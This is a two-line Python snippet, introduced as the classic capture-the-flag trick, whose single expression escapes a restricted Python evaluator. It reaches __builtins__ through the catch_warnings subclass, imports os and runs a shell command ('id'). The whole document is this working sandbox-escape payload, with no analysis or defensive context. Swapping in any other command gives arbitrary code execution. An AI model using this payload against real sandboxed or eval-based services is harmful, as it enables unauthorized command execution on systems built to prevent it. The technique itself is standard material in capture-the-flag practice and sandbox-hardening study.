# An expression alone: the classic of capture-the-flag games.
print([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"][0]()._module.__builtins__["__import__"]("os").system("id"))
